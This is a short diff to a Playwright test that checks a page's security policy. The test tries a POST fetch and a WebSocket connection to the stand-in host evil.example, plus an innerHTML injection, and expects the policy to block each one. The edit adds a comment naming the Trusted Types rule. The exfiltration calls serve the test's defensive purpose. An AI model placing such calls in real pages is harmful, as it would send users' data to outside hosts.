@@ -62,10 +62,10 @@ test('markup injected into the page does nothing, and a script reaches no other 
     await page.locator('#evil-link').click();
     await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.submit());
     await page.evaluate(() => {
-      // In a task of its own: the policy doesn't apply to the code that the test evaluates.
       const attempts: readonly (() => unknown)[] = [
         () => fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
         () => new WebSocket('wss://evil.example/'),
+        // The policy refuses it: require-trusted-types-for.
         () => Object.assign(document.body, { innerHTML: '<b>injected</b>' }),
       ];
       // In a task of its own: the policy doesn't apply to the code that the test evaluates.
